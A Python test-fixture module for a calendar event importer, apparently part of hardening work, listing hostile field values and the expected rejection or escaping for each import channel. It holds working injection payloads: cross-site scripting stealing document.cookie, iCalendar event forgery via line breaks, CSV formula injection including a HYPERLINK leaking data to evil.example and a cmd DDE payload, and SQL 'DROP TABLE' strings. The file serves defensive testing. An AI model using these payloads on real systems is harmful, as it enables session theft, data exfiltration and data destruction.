"""Hostile payloads, one list with a short name each (#14, "Hardening").

Each payload is a value for one field of an event record (`field`); `tests.calendar.hostile.
sources` writes the record in each import format and as a body of the write API, and the tests
follow the event to every public surface. A channel that has no such field carries the value in
the title (`sources.FIELDS` says which).

What a payload expects:
- `rejected`: the channels that refuse the record, each with the reason codes it may give
  (an import's problem code, "overlong" for a text too long for its column, `file:<code>` when
  the whole file is refused, the API's field);
  every other channel keeps the event;
- `shown`: the text that must arrive, escaped, where the field's text is shown (per channel,
  "*" for all; none where nothing of the value is expected to survive);
- `absent`: texts that no public answer may contain at all;
- `dates`: how many dates the kept event has (None: a bounded series, counted from the answers);
- `leading`: the value must begin its field (a formula must begin the title's CSV cell);
- `search`: the calendar and the API are also searched for the value itself.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from dataclasses import field as default
from typing import Any

CHANNELS = ("ics", "csv", "thuecat", "destination-one", "api")


@dataclass(frozen=True)
class Payload:
    name: str
    value: str
    field: str = "title"
    rejected: Mapping[str, frozenset[str]] = default(default_factory=dict)
    shown: Mapping[str, str] = default(default_factory=dict)
    absent: tuple[str, ...] = ()
    raw: Mapping[str, Any] = default(default_factory=dict)  # per format, instead of `value`
    dates: int | None = 1
    leading: bool = False
    search: bool = False

    def refused_by(self, channel: str) -> frozenset[str]:
        """The reason codes `channel` may give for refusing the record (empty: it keeps it)."""
        return self.rejected.get(channel, frozenset())

    def shown_in(self, channel: str) -> str | None:
        return self.shown.get(channel, self.shown.get("*"))


def _codes(**channels: str) -> dict[str, frozenset[str]]:
    """`csv="bad-url", api="url|ticket_url"` → channel → set of acceptable codes."""
    return {name.replace("_", "-"): frozenset(codes.split("|")) for name, codes in channels.items()}


# the write API refuses a NUL in any text with 422 at that field (PostgreSQL cannot store it)
NUL_REFUSED = "title_de|short_de|description_de"


# a link that is not http(s): the iCalendar and JSON readers drop it (the event stays), the CSV
# template and the write API refuse it with the column or field named
def _link(name: str, value: str, link: str = "url") -> Payload:
    return Payload(
        name,
        value,
        field=link,
        rejected=_codes(csv="bad-url", api=link),
        absent=(value,) if len(value.strip()) > 12 else (),
    )


_FORGED_LINES = (
    "END:VEVENT",
    "BEGIN:VEVENT",
    "UID:forged@evil.example",
    "DTSTART:20270601T100000Z",
    "SUMMARY:GEFÄLSCHT",
    "BEGIN:VALARM",
    "ACTION:DISPLAY",
    "TRIGGER:-PT5M",
    "END:VALARM",
)


def forged(separator: str) -> str:
    """Lines that would end the event and begin a forged one with an alarm, if `separator`
    were taken for a line break."""
    return separator.join(_FORGED_LINES)


ONE_LINE = forged(" ")  # the same on one line, as it must arrive

CORPUS: tuple[Payload, ...] = (
    # --- HTML and script injection -----------------------------------------------------
    Payload("script-tag", "<script>alert(1)</script>", absent=("alert(1)",)),
    Payload(
        "img-onerror",
        '"><img src=x onerror=alert(1)>',
        shown={"*": '">'},
        absent=("onerror",),
    ),
    Payload("jsonld-breakout", "</script><script>alert(1)</script>", absent=("alert(1)",)),
    Payload(
        "jsonld-breakout-entities",
        "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
        shown={"*": "</script><script>alert(1)</script>"},
    ),
    Payload("svg-onload", "<svg onload=alert(1)>", absent=("onload",)),
    Payload(
        "svg-onload-entities",
        "&lt;svg/onload=alert(1)&gt;",
        shown={"*": "<svg/onload=alert(1)>"},
    ),
    Payload(
        "description-script",
        "<p>Beschreibung mit Skript</p><script>alert(1)</script><img src=x onerror=alert(1)>",
        field="description",
        shown={"*": "Beschreibung mit Skript"},
    ),
    Payload(
        "description-javascript-link",
        '<p><a href="javascript:alert(1)">Programm</a> <a href=" JaVaScRiPt:alert(2)">mehr</a>'
        ' <a href="java&#x09;script:alert(3)">noch mehr</a></p>',
        field="description",
        shown={"*": "Programm"},
    ),
    Payload(
        "description-mutation",
        "<p>Text</p><svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(2)></style></mglyph>",
        field="description",
        shown={"*": "Text"},
    ),
    Payload(
        "organiser-markup",
        "<img src=x onerror=alert(1)>Kulturverein",
        field="organiser",
        shown={"*": "Kulturverein", "api": "<img src=x onerror=alert(1)>Kulturverein"},
    ),
    Payload(
        "venue-markup",
        "<svg onload=alert(1)>Volkshaus &lt;b&gt;Saal&lt;/b&gt;",
        field="venue",
        shown={"*": "Volkshaus <b>Saal</b>"},
        absent=("onload",),
    ),
    # --- links that are no web addresses ---------------------------------------------------
    _link("javascript-url", "javascript:alert(document.cookie)"),
    _link("javascript-mixed-case", "JaVaScRiPt:alert(document.cookie)"),
    _link("javascript-leading-space", " javascript:alert(document.cookie)"),
    _link("javascript-entity-tab", "java&#x09;script:alert(document.cookie)"),
    _link("javascript-raw-tab", "java\tscript:alert(document.cookie)"),
    _link("javascript-slashes", "javascript://evil.example/%0Aalert(document.cookie)"),
    _link("data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    _link("vbscript-url", "vbscript:msgbox(document.cookie)"),
    _link("ticket-javascript", "javascript:alert(document.cookie)", link="ticket_url"),
    Payload(
        "image-javascript",
        "javascript:alert(document.cookie)",
        field="image",
        rejected=_codes(csv="bad-url", api="url"),
        absent=("alert(document.cookie)",),
    ),
    Payload(
        "http-link-quote-breakout",
        'https://evil.example/"><script>alert(1)</script>',
        field="url",
        shown={"*": 'https://evil.example/"><script>alert(1)</script>'},
    ),
    # --- iCalendar forgery by line breaks in one-line fields -------------------------------------
    Payload(
        "forged-title-lf",
        "Konzert\n" + forged("\n"),
        shown={"*": "Konzert " + ONE_LINE},
    ),
    Payload(
        "forged-title-crlf",
        "Konzert\r\n" + forged("\r\n"),
        shown={"*": "Konzert " + ONE_LINE},
    ),
    Payload(
        "forged-title-raw-cr",
        "Konzert\r" + forged("\r"),
        shown={"*": "Konzert " + ONE_LINE},
    ),
    Payload(
        "forged-title-line-separator",
        "Konzert\u2028" + forged("\u2028"),
        shown={"*": "Konzert " + ONE_LINE},
    ),
    Payload(
        "forged-title-next-line",
        "Konzert\x85" + forged("\x85"),
        shown={"*": "Konzert " + ONE_LINE},
    ),
    Payload(
        "forged-title-escaped",
        "Konzert\\n" + forged("\\n"),
        shown={"*": "Konzert\\n" + forged("\\n")},
    ),
    Payload(
        "forged-url",
        "https://evil.example/\n" + forged("\n"),
        field="url",
        rejected=_codes(csv="bad-url", api="url"),
    ),
    Payload(
        "forged-organiser",
        "Kulturamt\n" + forged("\n"),
        field="organiser",
        rejected=_codes(api="organiser"),
        shown={"*": "Kulturamt " + ONE_LINE},
    ),
    Payload(
        "forged-location",
        "Volkshaus\r\n" + forged("\r\n"),
        field="venue",
        shown={"*": "Volkshaus " + ONE_LINE},
    ),
    Payload(
        "forged-location-line-separator",
        "Volkshaus\u2028" + forged("\u2028"),
        field="venue",
        shown={"*": "Volkshaus " + ONE_LINE},
    ),
    Payload(
        "forged-teaser",
        "Kurztext\u2028" + forged("\u2028") + "\r\n" + forged("\r\n"),
        field="description",
        shown={"*": "Kurztext"},
    ),
    # --- CSV formula injection ---------------------------------------------------------
    Payload(
        "formula-hyperlink",
        '=HYPERLINK("http://evil.example/?x="&A1)',
        leading=True,
        shown={"*": '=HYPERLINK("http://evil.example/?x="&A1)'},
    ),
    Payload(
        "formula-plus",
        "+cmd|' /C calc'!A0",
        leading=True,
        shown={"*": "+cmd|' /C calc'!A0"},
    ),
    Payload("formula-minus", "-2+3", leading=True, shown={"*": "-2+3"}),
    Payload("formula-at", "@SUM(1)", leading=True, shown={"*": "@SUM(1)"}),
    Payload("formula-tab", "\t=1+2", leading=True, shown={"*": "=1+2"}),
    Payload("formula-space", " =1+2", leading=True, shown={"*": "=1+2"}),
    Payload("formula-cr", "\r@SUM(1)", leading=True, shown={"*": "@SUM(1)"}),
    # --- SQL and search syntax ---------------------------------------------------------------
    Payload(
        "sql-drop-table",
        "'; DROP TABLE calendar_event; --",
        search=True,
        shown={"*": "'; DROP TABLE calendar_event; --"},
    ),
    Payload("sql-or", '" OR 1=1 --', search=True, shown={"*": '" OR 1=1 --'}),
    Payload(
        "fts-near",
        "NEAR(Konzert Lesung, 2)",
        search=True,
        shown={"*": "NEAR(Konzert Lesung, 2)"},
    ),
    Payload(
        "fts-operators",
        '* " ^ AND OR NOT -orgel:* {title} + "',
        search=True,
        shown={"*": '* " ^ AND OR NOT -orgel:* {title} + "'},
    ),
    Payload("like-wildcards", "100% _x_ \\%", search=True, shown={"*": "100% _x_ \\%"}),
    # --- control characters, NUL, bidi ---------------------------------------------------------
    # a NUL makes a CSV file binary data: the whole file is refused
    Payload(
        "nul-byte",
        "Nul\x00Byte",
        rejected=_codes(csv="file:binary-not-csv", api=NUL_REFUSED),
        shown={"*": "NulByte"},
    ),
    Payload(
        "control-characters",
        "Steuer\x01\x07\x08\x0b\x0c\x1b[31mzeichen\x7f",
        shown={"*": "Steuer[31mzeichen"},
    ),
    Payload(
        "control-characters-teaser",
        "Kurz\x00\x01\x0b\x0c\x1b text",
        field="description",
        rejected=_codes(csv="file:binary-not-csv", api=NUL_REFUSED),
        shown={"*": "Kurz text"},
    ),
    Payload(
        "nul-in-id",
        "id-with\x00nul",
        field="uid",
        rejected=_codes(csv="file:binary-not-csv", api=NUL_REFUSED),
    ),
    Payload(
        "nul-in-licence",
        "CC BY\x00 4.0",
        field="licence",
        rejected=_codes(csv="file:binary-not-csv", api=NUL_REFUSED),
    ),
    Payload(
        "postal-code-line-break",
        "07743\r\nX",
        field="postal_code",
        rejected=_codes(thuecat="outside-region", destination_one="outside-region"),
        shown={"csv": "07743\r\nX"},
    ),
    Payload(
        "bidi-override",
        "\u202egnp.exe\u202c Ausstellung",
        shown={"*": "\u202egnp.exe\u202c Ausstellung"},
    ),
    # --- very long strings --------------------------------------------------------------
    Payload(
        "long-title",
        "Lang" + "x" * 5000,
        rejected=_codes(api="title_de"),
        shown={"*": "Lang" + "x" * 200},
    ),
    Payload(
        "long-url",
        "https://kultur.example/" + "a" * 2000,
        field="url",
        rejected=_codes(
            ics="overlong",
            csv="overlong",
            thuecat="overlong",
            destination_one="overlong",
            api="url",
        ),
    ),
    Payload(
        "long-organiser",
        "Verein " * 700,
        field="organiser",
        rejected=_codes(
            ics="overlong",
            csv="overlong",
            thuecat="overlong",
            destination_one="overlong",
            api="organiser",
        ),
    ),
    Payload(
        "long-venue",
        "Saal " * 1000,
        field="venue",
        rejected=_codes(
            ics="overlong",
            csv="overlong",
            thuecat="overlong",
            destination_one="overlong",
            api="title_de",
        ),
    ),
    Payload(
        "long-description",
        "<p>" + "Lorem ipsum dolor sit amet. " * 2000 + "</p>",
        field="description",
        rejected=_codes(api="description_de"),
        shown={"*": "Lorem ipsum dolor sit amet."},
    ),
    # --- recurrence rules that must stay bounded (the records start on a Wednesday) ----------
    Payload(
        "rrule-interval-zero",
        "FREQ=DAILY;INTERVAL=0",
        field="rule",
        rejected=_codes(ics="bad-recurrence"),
        raw={
            "thuecat": {"repeatFrequency": "P0D"},
            "destination-one": {"freq": "Daily", "interval": 0},
        },
        dates=None,
    ),
    Payload(
        "rrule-count-huge",
        "FREQ=DAILY;COUNT=999999999",
        field="rule",
        raw={"thuecat": {"repeatFrequency": "P1D"}, "destination-one": {"freq": "Daily"}},
        dates=None,
    ),
    Payload(
        "rrule-secondly",
        "FREQ=SECONDLY",
        field="rule",
        rejected=_codes(
            ics="unsupported-frequency", thuecat="bad-recurrence", destination_one="bad-recurrence"
        ),
        raw={"thuecat": {"repeatFrequency": "PT1S"}, "destination-one": {"freq": "Secondly"}},
        dates=None,
    ),
    Payload(
        "rrule-bysetpos-daily",
        "FREQ=DAILY;BYSETPOS=2",  # never a date: DTSTART alone
        field="rule",
        rejected=_codes(thuecat="bad-recurrence", destination_one="bad-recurrence"),
        raw={
            "thuecat": {"repeatFrequency": "P1M", "byDay": "schema:Monday", "byMonthWeek": 9},
            "destination-one": {"freq": "Monthly", "weekday": "Monday", "dayOrdinal": 9},
        },
        dates=None,
    ),
    Payload(
        "rrule-bysetpos-huge",
        "FREQ=MONTHLY;BYDAY=MO,TU,WE,TH,FR;BYSETPOS=-999999",
        field="rule",
        rejected=_codes(
            ics="bad-recurrence|bad-event",
            thuecat="bad-recurrence",
            destination_one="bad-recurrence",
        ),
        raw={
            "thuecat": {"repeatFrequency": "P1M", "byDay": "schema:Monday", "byMonthWeek": -999999},
            "destination-one": {"freq": "Monthly", "weekday": "Monday", "dayOrdinal": -999999},
        },
        dates=None,
    ),
    Payload(
        "rrule-impossible-day",
        "FREQ=DAILY;BYMONTH=2;BYMONTHDAY=30",  # never a date: DTSTART alone
        field="rule",
        rejected=_codes(thuecat="no-usable-weekday"),
        raw={
            "thuecat": {"repeatFrequency": "P1W", "byDay": "schema:Funday"},
            "destination-one": {"freq": "Weekly", "weekdays": ["Funday"]},
        },
        dates=None,
    ),
    Payload(
        "rrule-weekday-never",
        "FREQ=DAILY;INTERVAL=7;BYDAY=MO",  # from a Wednesday: never a date
        field="rule",
        rejected=_codes(thuecat="no-dates", destination_one="no-dates"),
        raw={
            "thuecat": {"repeatFrequency": "P7D", "byDay": "schema:Monday"},
            "destination-one": {"freq": "Daily", "interval": 7, "weekdays": ["Monday"]},
        },
        dates=None,
    ),
    Payload(
        "rrule-interval-huge",
        "FREQ=DAILY;INTERVAL=99999999999999999999",
        field="rule",
        rejected=_codes(ics="bad-recurrence"),
        raw={
            "thuecat": {"repeatFrequency": "P99999999999999999999D"},
            "destination-one": {"freq": "Daily", "interval": 99999999999999999999},
        },
        dates=None,
    ),
    # --- dates out of range ("start": the start alone; "start-with-end": the end stays) --------
    Payload(
        "year-one",
        "0001-01-01 00:00",
        field="start",
        rejected=_codes(
            ics="bad-event",
            csv="no-dates",  # "01.01.0001" is read as 2001, like "01.01.01"
            thuecat="no-dates",
            destination_one="bad-date",
            api="occurrences",
        ),
    ),
    Payload(
        "since-year-one",
        "0001-01-01 00:00",
        field="start-with-end",
        rejected=_codes(
            ics="bad-event", thuecat="no-dates", destination_one="bad-date", api="occurrences"
        ),
    ),
    Payload(
        "year-9999",
        "9999-12-31 23:59",
        field="start",
        rejected=_codes(
            ics="bad-event",
            csv="bad-date",
            thuecat="no-dates",
            destination_one="bad-date",
            api="occurrences",
        ),
    ),
    # an end that far is no end the JSON readers can read (they keep the start); the iCalendar
    # and CSV readers refuse the record with the value
    Payload(
        "ends-in-9999",
        "9999-12-31 23:59",
        field="end",
        rejected=_codes(ics="bad-event", csv="bad-date", api="occurrences"),
    ),
    Payload(
        "whole-days-until-9999",
        "9999-12-31",
        field="end",
        rejected=_codes(ics="bad-event", csv="bad-date", api="occurrences"),
    ),
    # --- numbers out of range -------------------------------------------------------------------
    Payload(
        "price-huge",
        "99999999999999,99",
        field="price",
        rejected=_codes(api="price_min"),
        raw={"thuecat": "99999999999999.99", "api": {"price_min": "99999999999999.99"}},
        shown={"csv": "99999999999999,99", "destination-one": "99999999999999,99"},
    ),
    Payload(
        "price-negative",
        "-5",
        field="price",
        rejected=_codes(api="price_min"),
        raw={"api": {"price_min": "-5"}},
    ),
    Payload(
        "price-not-a-number",
        "NaN",
        field="price",
        rejected=_codes(api="price_min"),
        raw={"api": {"price_min": "NaN"}},
    ),
    Payload(
        "price-exponent",
        "1E+400",
        field="price",
        rejected=_codes(api="price_min"),
        raw={"thuecat": 1e400, "api": {"price_min": "1E+400"}},
    ),
    Payload(
        "geo-out-of-range",
        "100000;-100000",
        field="geo",
        absent=("mlat=100000",),
    ),
)

NAMES = [payload.name for payload in CORPUS]
assert len(set(NAMES)) == len(NAMES), "payload names must be unique"
